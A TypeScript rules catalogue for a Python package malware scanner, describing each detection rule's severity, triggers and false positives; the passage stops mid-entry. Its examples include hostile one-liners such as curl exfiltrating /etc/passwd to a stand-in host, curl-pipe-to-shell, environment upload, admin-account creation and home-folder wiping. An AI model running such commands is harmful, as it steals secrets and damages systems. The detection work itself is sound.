// Every rule pyguard reports, documented once: SARIF and HTML read it, and docs/rules.md is generated
// from it (scripts/gen-rules-doc.ts); a test checks that every rule id the code emits is listed here.
import type { Severity } from '../../model/result.ts';
import type { RuleInfo } from '../../model/rules.ts';
import { TARGET_RULE_DOCS } from './target-rules.ts';

export interface RuleDoc {
  id: string;
  name: string;
  family:
    | 'egress'
    | 'unaudited'
    | 'process'
    | 'dynamic-code'
    | 'data-flow'
    | 'install-hook'
    | 'secrets'
    | 'archive'
    | 'package'
    | 'metadata'
    | 'known-malware';
  severity: Severity;
  catches: string;
  example: string;
  falsePositives: string;
}

/** Rules about code, reported per file. */
const CODE_RULE_DOCS: RuleDoc[] = [
  // egress
  {
    id: 'egress-network-call',
    name: 'Outbound network call',
    family: 'egress',
    severity: 'info',
    catches:
      "A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel or out-of-band collector (a self-hosted interactsh server, random.oast.<tld>, included), IP-literal, throwaway-TLD or Tor/I2P (.onion, .i2p) hosts, for IP-lookup and chat-service hosts outside code the user calls, and for a beacon (a request with a body, a DNS query or a mail connection, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host neither the file nor the package constants it imports write in a string literal (decoded or assembled; a comment naming it does not count) is high. Not reported: a Unix socket, getaddrinfo with the flag socket.AI_NUMERICHOST as resolved (it parses an address and asks no server), and requests calls inside a function decorated with @responses.activate or a `with responses.RequestsMock():` block that lets nothing through (no passthru), unless the target ships its own `responses` or `requests` module (which could make the decorator a no-op; the responses package's own tests stay egress for that reason). A library's private modules count as the library (httpx._client.Client is httpx.Client).",
    example: 'requests.post("https://collector.example/v1", json=data)',
    falsePositives:
      "HTTP clients and SDKs call the network by design; at call time these stay info or low. A chat bot reached with the user's own token (tqdm's Telegram bar) and a DNS lookup of an IP literal (no query is sent) are not shady.",
  },
  {
    id: 'egress-via-object',
    name: 'Send through a connection object',
    family: 'egress',
    severity: 'info',
    catches:
      "A send-like method (send, sendall, urlopen, request, getresponse, handle_request, _send_user_message, connect, exec_command, ...) called on an object whose class the file does not show (a parameter, an attribute), in a module of a network package (requests, urllib3, httpx, paramiko, dnspython, ...) or in a file that imports a network module, when the file calls no network API directly. It makes the file's egress verdict follow outbound logic that goes through objects passed in (requests' sessions, urllib3's pool manager, paramiko's channels).",
    example: 'def send(self, request):\n    return self.pool.urlopen(request.method, request.url)',
    falsePositives:
      "Generators driven with .send() in a file that also imports a network module, unless the object is passed to next() and made by a generator function the file defines (httpx's auth flows); info only.",
  },
  {
    id: 'egress-dns-lookup',
    name: 'DNS lookup',
    family: 'egress',
    severity: 'info',
    catches:
      'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration); a name built as f"{data}.domain" is reported with the fixed domain as a dynamic-subdomain destination.',
    example: 'socket.gethostbyname(f"{user}.x.example")',
    falsePositives:
      "Resolving a host the user configured. The machine's own name looked up (socket.gethostbyname(socket.gethostname()), the idiom for its own address) is not reported.",
  },
  {
    id: 'egress-dynamic-attribute',
    name: 'Network API chosen at run time',
    family: 'egress',
    severity: 'low',
    catches:
      'getattr(requests, name)(...) with a computed attribute name on a network module, which hides which call is made.',
    example: 'getattr(requests, method)(url)',
    falsePositives: 'Generic wrappers that dispatch an HTTP verb by name.',
  },
  {
    id: 'network-import',
    name: 'Network module imported',
    family: 'egress',
    severity: 'info',
    catches: 'A network module imported by a file in which no outbound call was found (a capability, not egress).',
    example: 'import socket',
    falsePositives: 'Imports for exception classes or constants (socket.timeout).',
  },
  {
    id: 'telemetry-sdk',
    name: 'Telemetry SDK imported',
    family: 'egress',
    severity: 'info',
    catches:
      'An analytics or error-reporting SDK (Sentry, PostHog, Mixpanel, Segment, Amplitude, Datadog, OpenTelemetry exporters, New Relic, Bugsnag, Rollbar, ...).',
    example: 'import sentry_sdk',
    falsePositives: 'Optional integrations that only run when the user configures them.',
  },
  {
    id: 'telemetry-call',
    name: 'Telemetry sent',
    family: 'egress',
    severity: 'low',
    catches: 'Initialising or calling a telemetry SDK, which sends usage or error data to its vendor.',
    example: 'sentry_sdk.init(dsn=DSN)',
    falsePositives: 'Opt-in telemetry guarded by a setting.',
  },
  {
    id: 'hardcoded-endpoint',
    name: 'Hard-coded endpoint',
    family: 'egress',
    severity: 'info',
    catches:
      "A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs; low for an IP literal or a chat service's address written in code the user calls and for a throwaway-TLD URL outside install or start-up code (URL parsers test emoji .ws domains). Network addresses (x.y.0.0, a netmask table) and reserved, private and multicast blocks are not endpoints. An IPv4 address spelt as inet_aton also reads it (3221225985, 0xC0000201, 0300.0.02.01) is an IP literal; a wildcard-DNS name that carries one (192.0.2.1.nip.io, sslip.io) is a tunnel; the public DNS resolvers' addresses (8.8.8.8, 1.1.1.1) are kind public-resolver.",
    example: 'WEBHOOK = "https://discord.example/api/webhooks/123456/abc"',
    falsePositives:
      "Default API base URLs of SDKs (info). Documentation addresses (192.0.2.0/24) in test tables evaluated on import outside a constant (OpenStack's tests): medium, because they count as IP literals like any other. An IP literal a module constant defines on import (ADDR = '...', a list or dict assigned to a name) is low, as in a function the user calls: the call that uses it is reported with its own trigger.",
  },
  // secrets
  {
    id: 'hardcoded-api-key',
    name: 'Hard-coded API key or DSN',
    family: 'secrets',
    severity: 'low',
    catches:
      'A credential of a remote service recognisable by its shape: Sentry DSN, PostHog phc_ key, AWS AKIA/ASIA key id, GitHub, Slack, Stripe, Google, OpenAI, Anthropic, Telegram bot and Discord bot tokens, private keys. Placeholders (EXAMPLE, xxxx, your-key) are skipped.',
    example: 'posthog.Posthog("phc_...", host=...)',
    falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).',
  },
  {
    id: 'hardcoded-bot-channel',
    name: "The author's bot channel",
    family: 'secrets',
    severity: 'high',
    catches:
      "A Telegram bot client (python-telegram-bot, pyTelegramBotAPI, aiogram) built with a token written into the package, however it is disguised (folded from chr() codes, joined pieces, decoded constants), that sends messages or files: the author's own channel, the way stealers deliver what they take. Critical in code that runs at install, start-up or import.",
    example: 'Bot(token=d([55, 54, 52, ...])).send_document(chat_id=CHAT, document=archive)',
    falsePositives: "Private bots whose owner publishes their own token (the token is then everyone's).",
  },
  {
    id: 'hardcoded-secret',
    name: 'Hard-coded credential',
    family: 'secrets',
    severity: 'low',
    catches:
      'A random-looking string stored under a secret-like name (api_key, token, secret, password, dsn, write_key).',
    example: 'API_KEY = "9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"',
    falsePositives: 'Test fixtures with fake keys that look random.',
  },
  // process
  {
    id: 'process-spawn',
    name: 'Process started',
    family: 'process',
    severity: 'info',
    catches:
      "subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses, the C library's system/popen/exec* and the Windows API's WinExec/ShellExecute/CreateProcess through ctypes, and any of them handed to a thread, process, pool, executor, map or exit hook to call (a capability). Low in install, import or startup code. Any process finding whose program name the file never writes (decoded or assembled at run time) is high; setup.py running with the interpreter a .py script the archive does not hold is high (its code cannot be reviewed), and so is one running a shell, batch, PowerShell or JavaScript file it does not hold; a shell, batch or PowerShell script it holds is read line by line as install-time command lines (its report is the script's).",
    example: 'subprocess.run(["git", "describe"])',
    falsePositives: 'Build helpers that run compilers or git.',
  },
  {
    id: 'process-network-tool',
    name: 'Process that reaches the network',
    family: 'process',
    severity: 'medium',
    catches:
      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /). Like a network call made in-process: low when the user's call runs it (git push, ssh, wget in a release or cluster tool), medium when its destination is one exfiltration favours (an IP literal, a paste site, a tunnel), raised one level on import and two at install or start-up.",
    example: 'os.system("curl -d @/etc/passwd https://x.example")',
    falsePositives: 'Build scripts that download toolchains at install time.',
  },
  {
    id: 'silent-process',
    name: 'Hidden process',
    family: 'process',
    severity: 'medium',
    catches:
      'A process started without a window, detached or in a new session (CREATE_NO_WINDOW, DETACHED_PROCESS, start_new_session, nohup, setsid).',
    example: 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)',
    falsePositives: 'Daemons and GUI launchers.',
  },
  {
    id: 'process-launch-payload',
    name: 'Launches a payload',
    family: 'process',
    severity: 'high',
    catches:
      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, `attrib +h`/`+s` hiding a file from the user (high even when called), or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c) and left running, or whose code cannot be read (a query whose output the import reads is judged by its inline code), or a bare interactive shell, by code that runs on import or start-up. High in code that runs at install, start-up or import, and for PowerShell told to bypass the execution policy with a hidden window; low when called.',
    example: 'os.system("start " + path + "\\\\update.exe")',
    falsePositives:
      'Command-line tools that open files or run helper scripts when the user asks (low). One reconnaissance command whose output only a comparison reads (b"Windows Server" in check_output(("systeminfo",))) tests the platform and is not reported here.',
  },
  {
    id: 'process-launch-unknown',
    name: 'Runs a program no build needs',
    family: 'process',
    severity: 'high',
    catches:
      'A process started by setup.py or a .pth file whose program is not one a package build runs (compilers and build systems, git, code generators, configuration queries such as pkg-config or uname, package managers, file operations, interpreters and shells running a script): calc, notepad, touch, cat of a system folder, a bare /bin/sh, a program shipped in the package.',
    example: 'os.system("notepad") in setup.py',
    falsePositives: 'setup.py files that run an unusual build tool missing from the list (add it to BUILD_PROGRAMS).',
  },
  {
    id: 'process-pip-install',
    name: 'Installs packages while running',
    family: 'process',
    severity: 'medium',
    catches:
      "pip install run from code that runs at install, start-up or import (as a process, or in-process through pip.main([...]) and pip's internal entry points): a second stage that no lock file pins and no audit saw. High when it installs from a URL or a repository (git+https://..., --index-url): code no index has vetted; or a name one typo away from a popular project's (the same check as the metadata typosquat rule): the second stage of a typosquat.",
    example: 'os.system("pip install helper-lib") in setup.py',
    falsePositives: 'Old setup.py files that install their build requirements by hand.',
  },
  {
    id: 'download-execute',
    name: 'Download and execute',
    family: 'process',
    severity: 'high',
    catches:
      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response (also exec handed to a thread, pool or map: Thread(target=exec, args=(code,))), a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process or Invoke-Expression), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started (as a process, or a .py file run in-process by runpy.run_path or the file loaders of importlib); or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` or `urlretrieve(url, file_path)`, then `subprocess.run([file_path])`, `zipimport.zipimporter(file_path)` or `sys.path.insert(0, file_path)`), or a folder a downloading function unpacked an archive into (ZipFile(...).extractall(folder), tarfile, shutil.unpack_archive) put on the import path or loaded from, unless that path evidently names a document a viewer opens (a folded .html/.txt/.pdf/.png... name, or a temporary file made with such a suffix: scapy shows a fetched page with os.startfile). Also exec() of data computed at run time by code that runs on import, install or start-up and connects to the network in the same body (an FTP download into a buffer, a mail body, socket bytes: high), unless the data is a member of the package read from disk.',
    example: 'os.system("curl -s https://x.example/i.sh | sh")',
    falsePositives:
      'Installers of developer tools (rare in libraries): ete3s upgrade tool downloads an archive of external apps and puts it on the import path (high); services that generate code for their users (exec of a response when called is medium).',
  },
  {
    id: 'powershell-encoded-command',
    name: 'Encoded PowerShell',
    family: 'process',
    severity: 'high',
    catches: 'powershell -EncodedCommand / -enc with a base64 UTF-16LE script, decoded and shown.',
    example: 'subprocess.run("powershell -enc SQBFAFgA...")',
    falsePositives: 'None known in libraries.',
  },
  // dynamic code and hiding
  {
    id: 'dynamic-code-exec',
    name: 'exec/eval of dynamic data',
    family: 'dynamic-code',
    severity: 'info',
    catches:
      'exec, eval, compile or execfile of a value computed at run time (info when called by the user, low on import, medium at install or startup).',
    example: 'exec(code, namespace)',
    falsePositives: 'Templating and code generation (dataclasses, namedtuple).',
  },
  {
    id: 'exec-decoded-payload',
    name: 'exec of a decoded payload',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      'exec/eval of data decoded at run time (base64, base32, base85, hex, zlib, gzip, bz2, rot13, Fernet with a literal key, byte lists, character arithmetic in a comprehension over constant data such as chr(c ^ 42) for c in DATA, chr(ord(c) - 3) for c in TEXT or a repeating-key XOR b ^ KEY[i % len(KEY)] for i, b in enumerate(DATA), chr(105) + chr(109) + ... chains of any length, reversed() characters, a str.maketrans substitution, junk between letters split away (TEXT.split("_") joined), and chains); the payload is decoded statically and rescanned as a virtual file FILE#decoded-N. Data read at run time, decoded and compiled only when a caller asks is low (import loaders such as zipimport do that); at install, start-up or import it is high or critical.',
    example: 'exec(base64.b64decode("aW1wb3J0IG9z..."))',
    falsePositives:
      'Code generators that build a function as whole lines joined with newlines and exec it (gavo-stc) are not disguised: each line is written out where it is made. Pieces joined without newlines, or short pieces, are.',
  },
  {
    id: 'decoded-python',
    name: 'Decoded Python code',
    family: 'dynamic-code',
    severity: 'medium',
    catches:
      'A constant that decodes to Python source (even when not passed straight to exec); it is rescanned as a virtual file.',
    example: 'payload = zlib.decompress(base64.b64decode(BLOB))',
    falsePositives: 'Packed data that happens to look like code.',
  },
  {
    id: 'exec-marshal',
    name: 'exec of marshalled code',
    family: 'dynamic-code',
    severity: 'high',
    catches: 'exec/eval of a code object built by marshal.loads.',
    example: 'exec(marshal.loads(data))',
    falsePositives: 'None known in libraries.',
  },
  {
    id: 'marshal-code',
    name: 'Code from marshal',
    family: 'dynamic-code',
    severity: 'medium',
    catches: 'marshal.loads/load building code from bytes (high when the bytes are decoded from a constant).',
    example: 'marshal.loads(zlib.decompress(blob))',
    falsePositives: 'Bytecode caches and tooling.',
  },
  {
    id: 'unpickled-code',
    name: 'Embedded pickle that calls code',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      "pickle.loads (and _pickle, cPickle, dill, cloudpickle, joblib, torch) of a pickle written in the file or decoded from it (base64, zlib, ...) that calls code, a process, a file, the network or an import (builtins, os, subprocess, socket, importlib, ...): unpickling calls what the data names. A pickle that calls only other constructors (a package's own classes; classes of those modules, such as a recorded requests Response) is low. A pickle file the package ships (.pkl, .pickle, .joblib, or bytes that open like a pickle) that reaches them is high, whoever loads it, and its Python is analysed as FILE#decoded-1. The pickle is read without running it (every protocol), written out as the Python it amounts to and rescanned as FILE#decoded-N; decoded bytes that are not a readable pickle are medium. A pickle downloaded and unpickled is download-execute.",
    example: 'pickle.loads(base64.b64decode("gASV...")) whose pickle calls posix.system("curl ... | sh")',
    falsePositives:
      "Test suites that embed pickles of their own classes are low (they call the package's own constructors); a test pickle that calls os or builtins is high.",
  },
  {
    id: 'code-object',
    name: 'Hand-built code object',
    family: 'dynamic-code',
    severity: 'low',
    catches: 'types.CodeType / types.FunctionType built by hand.',
    example: 'types.FunctionType(code, globals())',
    falsePositives: 'Decorator and serialization libraries.',
  },
  {
    id: 'file-executed-as-code',
    name: 'Non-Python file run as code',
    family: 'dynamic-code',
    severity: 'low',
    catches:
      'exec/eval/compile of a file read with open(...).read(), Path(...).read_text(), pkgutil.get_data or importlib.resources, runpy.run_path, execfile, or the importlib loaders given a path, or zipimport.zipimporter, or a Python interpreter started on it (subprocess.Popen([sys.executable, path])) or given its contents (python -c open(path).read()), when the file is not named like Python (LICENSE.txt, data.dat). The member is analysed as Python with the trigger of the code that runs it, and its own findings decide the verdict; a zip archive is opened in memory and each of its Python files analysed (`member/inner.py`). Medium in code that runs by itself; high for modules imported from a zip archive named like something else (server.crt).',
    example: 'exec(open("LICENSE.txt").read())',
    falsePositives: 'Build scripts that keep a version in a VERSION file and exec it.',
  },
  {
    id: 'file-run-as-commands',
    name: 'File run as command lines',
    family: 'dynamic-code',
    severity: 'low',
    catches:
      'A process (os.system, subprocess with shell=True, os.popen) given the contents of a file it reads (open(...).read(), Path(...).read_text(), a package resource) as its command line. The member is analysed as a list of command lines with the trigger of the code that runs it, and its own findings decide the verdict. Medium in code that runs by itself.',
    example: 'os.system(open("cmd.txt").read()) in setup.py',
    falsePositives: 'None known.',
  },
  {
    id: 'exec-custom-decoder',
    name: 'Home-made obfuscator',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High even in code a user calls (no benign package measured hides code this way); critical in code that runs at install, start-up or import.',
    example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
    falsePositives:
      "Code generators that rewrite a long template per character (none seen on the benign set). A local function counts as the decoder only when its body rewrites characters (ord/chr arithmetic, XOR, translate, a modular shift): a method that sends code to an interpreter and loops over its answer (sage's gap.eval) is not one. A readable code template filled in with format() is not cipher text, and the transformation must be in code, not inside a string (powerline).",
  },
  {
    id: 'obfuscated-builtin',
    name: 'Builtin reached by an obfuscated name',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like; __import__, getattr and open fetched from a namespace by a name spelt out of chr() codes or joined fragments (getattr(globals()["__builtins__"], "".join(chr(c) for c in [95, 95, ...]))); and a network or process API fetched with getattr or a namespace\'s [key] (vars(os)[...]) by such a name, or by a short name split into written pieces (getattr(os, "sys" + "tem")) (getattr(requests, "".join(["g", "e", "t"]))).',
    example: 'getattr(__builtins__, "ex" + "ec")(src)',
    falsePositives:
      'Python 2/3 shims that write the name out in full hide nothing and are not reported: getattr(builtins, "exec") (six), __builtins__["exec"] and __builtins__.__dict__["exec"] (empy).',
  },
  {
    id: 'spelt-from-table',
    name: 'Name spelt from a character table',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      '__import__, import_module, getattr, exec, eval, compile or open given a name or code spelt one character at a time from a lookup table (`T[1] + T[8] + T[13] + T[0]`), so neither readers nor scanners see what is imported or called. Critical in code that runs at install, start-up or import.',
    example: '__import__(self._byte[1] + self._byte[8] + self._byte[13] + self._byte[0])',
    falsePositives: 'None known.',
  },
  {
    id: 'dynamic-import',
    name: 'Import by string',
    family: 'dynamic-code',
    severity: 'low',
    catches:
      '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string. Raised on import when the name is assembled at run time (which hides it); a name written out in the call stays low.',
    example: '__import__("os").system(cmd)',
    falsePositives: 'Compatibility shims.',
  },
  {
    id: 'pyarmor-loader',
    name: 'PyArmor loader',
    family: 'dynamic-code',
    severity: 'medium',
    catches:
      'PyArmor runtime calls that load encrypted code nobody can review (pyarmor_runtime(), __pyarmor__(__name__, __file__, b"...")). The code cannot be analysed, so the target is UNAUDITED and fails the check.',
    example: 'from pytransform import pyarmor_runtime; pyarmor_runtime()',
    falsePositives: 'Commercial packages that protect their code.',
  },
  {
    id: 'unicode-disguised-name',
    name: 'Name in look-alike Unicode letters',
    family: 'dynamic-code',
    severity: 'high',
    catches:
      'Identifiers written in styled Unicode letters (mathematical bold or italic, full-width) that Python normalises to plain ASCII names (NFKC, PEP 3131), so `𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(url)` runs requests.get. pyguard normalises every name the same way before any rule reads the file, so the hidden calls are found as well; this rule reports the disguise itself. Medium for one short name (a one- or two-letter maths symbol).',
    example: '𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call([𝗽𝗮𝘁𝗵])',
    falsePositives: 'Scientific code naming a variable with a styled maths letter (one short name stays medium).',
  },
  {
    id: 'hidden-code',
    name: 'Code hidden off-screen',
    family: 'dynamic-code',
    severity: 'medium',
    catches:
      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes; a run of 100+ spaces is enough then). Also Python spelt in a string of spaces and tabs, one bit per character (high; decoded and rescanned as a virtual file).',
    example: 'x = 1' + ' '.repeat(8) + '...;exec(...)',
    falsePositives: 'Generated data tables with wide alignment.',
  },
  // data flow
  {
    id: 'exfiltration',
    name: 'Secret or identity sent out',
    family: 'data-flow',
    severity: 'high',
    catches:
      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets (also read through pathlib: Path.home() / '.aws' / 'credentials'; and any file of ~/.ssh, ~/.aws, ~/.kube, ~/.docker or ~/.gnupg whose name a listing gives: glob.glob, Path.glob, rglob, iterdir, os.walk, os.scandir); AWS credentials from boto3 or botocore sessions (get_credentials), a password typed at getpass() or read from the keyring; the output of commands that dump saved passwords (security dump-keychain, netsh wlan show profile key=clear, reg save hklm\\sam); machine identity such as host name, user name, MAC address, and the output of recon commands (whoami, hostname, id, uname, ipconfig, systeminfo; env and printenv, and /proc/self/environ, are the whole environment); clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink (also a connection made on another line: conn.request after HTTPSConnection(host), writer.write after asyncio.open_connection, any method of an XML-RPC ServerProxy, the URL, body or headers set on a pycurl object with setopt), through assignments, containers, formatting, encoders, the file's own functions and methods (self.send(data), c.push(data) after c = Client()), functions of the target's other modules that send a parameter (ship(dict(os.environ)) after from .net import ship), and files the code writes and reads back (secrets written or dumped to a file or added to a zip or tar archive, that path then opened and uploaded). The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
    example: 'requests.post(URL, json=dict(os.environ))',
    falsePositives:
      "Cloud SDKs and API clients that send a credential to their own service when the user calls them: low for a named environment variable, a typed or keyring password, AWS credentials to an AWS host, or the machine's identity (platform name in a download URL) sent to a hard-coded host of no shady kind, unless it becomes a DNS label of a fixed domain (f'{user}.example.net', medium; under a collector's or tunnel's domain, high); medium for credential files. A parameter named private_key or priv_key (a server certificate's or an SSH key pair's as much as a wallet's) sent when called to a host of no shady kind is medium, not high (libcloud uploading a certificate key; a drainer posting to a collector, a tunnel or a bot stays high); recovery phrases and wallet-named keys are not. Arguments the API uses locally are not sinks (where urlretrieve saves, requests' cert and verify, paramiko's key_filename and pkey, a host passed whole). The environment filtered by a positive condition on at most three named prefixes or names of four characters or more, none of them a secret (`if k.startswith(\"KERNEL_\")`, jupyter-server's gateway), counts as variables selected by name, not the whole environment; a negated filter, many short prefixes, or a list of secret names does not.",
  },
  {
    id: 'sensitive-file-access',
    name: 'Credential file referenced',
    family: 'data-flow',
    severity: 'low',
    catches:
      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history); medium for a function that searches folders (os.walk, listdir, glob) for Telegram session files (*.session). A store only another program uses (browsers, chat tokens and sessions, wallets) read anywhere in the target is credential theft (high), whether or not the channel that carries the loot is one pyguard knows; any other store is when code that runs by itself calls out and the store is read by code that runs by itself or in that same file.',
    example: 'open(os.path.expanduser("~/.aws/credentials"))',
    falsePositives: "SDKs and tools that read their own configuration (botocore, requests' .netrc support).",
  },
  {
    id: 'persistence',
    name: 'Persistence location',
    family: 'data-flow',
    severity: 'medium',
    catches:
      'Code that refers to a place that runs programs at log-in or boot (in a string, or in the path os.path.join builds from pieces): Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files. High in code that runs at install, start-up or import (shell start-up files: at install or start-up), and in a function that also downloads or writes a program or script file (a shell start-up file only when the function adds a command line to it that is no environment set-up and either the function downloads or the line reaches the network, launches a payload, runs in the background or is an alias putting a program of a temporary or hidden place, or any program at a path in front of sudo, su, passwd or ssh: tool installers add PATH and completion lines); a name in a literal table (a list of names, rows of a list of tuples, values of a dict of three or more entries) is low, and so are cron, systemd units and shell start-up files named by code the user calls (not an @reboot job: Windows Run keys, the Startup folder, launch agents and scheduled tasks stay medium).',
    example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    falsePositives:
      'System administration tools writing cron or systemd units (boto, samba, sahara: low when called); shell-completion installers a user runs (typer, userpath: low); lexers listing shell file names (pygments: low).',
  },
  {
    id: 'shortcut-hijack',
    name: 'Shortcuts rewritten',
    family: 'data-flow',
    severity: 'medium',
    catches:
      "Code that opens the user's existing Windows shortcuts (.lnk) through WScript.Shell's CreateShortcut, found by listing folders or read for their target first, and sets what they start or the arguments they start it with: the next click runs something else (ATT&CK T1547.009). A browser shortcut given --load-extension side-loads a browser extension (the clipboard-swapping extensions of typo-named packages): high, critical in code that runs by itself. Other rewrites are medium when a user calls them and high in code that runs at install, start-up or import.",
    example: 'link = shell.CreateShortcut(path); link.Arguments = "--load-extension=" + folder; link.Save()',
    falsePositives:
      'Shortcut managers a user runs on purpose (medium). Installers that make a new shortcut for their own program are not matched: they neither read nor list the shortcuts they write.',
  },
  {
    id: 'defense-evasion',
    name: 'Antivirus or firewall turned off',
    family: 'process',
    severity: 'high',
    catches:
      'A string that adds a Microsoft Defender exclusion or turns a protection off (Add-MpPreference -ExclusionPath, Set-MpPreference -DisableRealtimeMonitoring, DisableAntiSpyware) or turns the Windows firewall off (netsh advfirewall set ... state off): what a dropper does before it runs its payload. Critical in code that runs at install, start-up or import. Also, as administration tasks (low in code a user calls, critical in code that runs by itself): a firewall or SELinux turned off (iptables -F, ufw disable, setenforce 0, systemctl stop firewalld) and logs or shell history erased (wevtutil cl, Clear-EventLog, history -c, unset HISTFILE, rm ~/.bash_history).',
    example: 'subprocess.run(["powershell", "-Command", f"Add-MpPreference -ExclusionPath \'{path}\'"])',
    falsePositives: 'Endpoint-management tools that configure Defender on purpose (none on the benign set).',
  },
  {
    id: 'cryptominer',
    name: 'Cryptocurrency miner',
    family: 'process',
    severity: 'high',
    catches:
      "A mining pool address (stratum+tcp://, well-known Monero pools) or XMRig options (--cpu-max-threads-hint, --donate-level) in a string: the machine's processors put to work for someone else. Critical in code that runs at install, start-up or import.",
    example: '"winupdate.exe --url rx.unmineable.com:3333 --cpu-max-threads-hint 75"',
    falsePositives: 'Packages that are miners or miner front-ends by design (none on the benign set).',
  },
  {
    id: 'destructive-command',
    name: 'Wiper command',
    family: 'process',
    severity: 'high',
    catches:
      "A command line that deletes the user's home folder, its document folders, the root or a system folder (rm -rf ~, rm -rf /), a whole Windows drive (rd /s /q C:\\, del /f /s /q C:\\, format C:), Windows' shadow copies and recovery (vssadmin delete shadows, bcdedit ... recoveryenabled no), or overwrites a disk (dd of=/dev/sda, mkfs), or a fork bomb; and, as an administration task (low in code a user calls, critical in code that runs by itself), shutting the machine down (shutdown /s, shutdown -h now, poweroff). Critical in code that runs at install, start-up or import. A wiping command line that is neither handed to a call nor found in a command the file runs (and the file runs no script file and no command it cannot read) is medium: text, such as a test's shell-injection input.",
    example: 'subprocess.call("rm -rf ~/Documents", shell=True)',
    falsePositives:
      'Cleanup of build, cache or temporary folders does not match (rm -rf build/, ~/.cache/x), nor does deleting one shadow copy by its id (vssadmin delete shadows /shadow={id}: a remote-administration tool removing the copy it made).',
  },
  {
    id: 'system-backdoor',
    name: 'Way back in',
    family: 'process',
    severity: 'critical',
    catches:
      'A command line that creates an administrator account or gives one sudo rights (net user NAME PASS /add, net localgroup administrators NAME /add, useradd/usermod -G sudo|wheel), appends an SSH key to authorized_keys, grants password-less sudo (NOPASSWD: ALL, >> /etc/sudoers) or makes a setuid shell (chmod u+s /bin/bash): a way for the attacker to come back. Critical in code that runs at install, start-up or import; low in code a user calls (provisioning tools create accounts and install keys when asked) and when nothing runs the text.',
    example: 'os.system("net user support P4ss /add && net localgroup administrators support /add")',
    falsePositives:
      'Provisioning and configuration tools (cloud-init, configuration managers) that do this when a user runs them: low there.',
  },
  {
    id: 'wipes-files',
    name: 'Wiper in Python',
    family: 'process',
    severity: 'high',
    catches:
      "Python code that deletes the user's home folder, a document folder (Documents, Desktop, Pictures, Downloads...), the root or a system folder, by shutil.rmtree, os.remove, os.unlink, os.rmdir or pathlib's unlink/rmdir, given the folder itself (folded, or the home folder read at run time: expanduser, Path.home(), HOME) or a file of a loop or comprehension that walks it (os.walk, os.listdir, os.scandir, glob, Path.rglob); and Windows API calls that crash the system on purpose (NtRaiseHardError, RtlSetProcessIsCritical). Critical in code that runs at install, start-up or import; high when called.",
    example: 'shutil.rmtree(os.path.expanduser("~"))',
    falsePositives:
      'Deleting a folder under the home folder (~/.cache/x), a build or temporary folder, or a file named at run time (not a precious folder) does not match.',
  },
  {
    id: 'tampers-system-files',
    name: 'System file tampering',
    family: 'process',
    severity: 'medium',
    catches:
      "Python code that writes (open for writing or appending, shutil.copy or move to, pathlib write_text/write_bytes) the hosts file (/etc/hosts, Windows' drivers\\etc\\hosts: any name sent to any address), /etc/passwd, /etc/shadow, sudoers, /etc/ld.so.preload, an SSH authorized_keys file (a key that may log in), or a .pth, sitecustomize.py or usercustomize.py file (run at every Python start). Critical in code that runs at install, start-up or import; medium when called (system tools do this when asked), low for the Python start-up files (pip, setuptools and virtualenv write them when they install).",
    example: 'open("/etc/hosts", "a").write("192.0.2.9 pypi.org")',
    falsePositives:
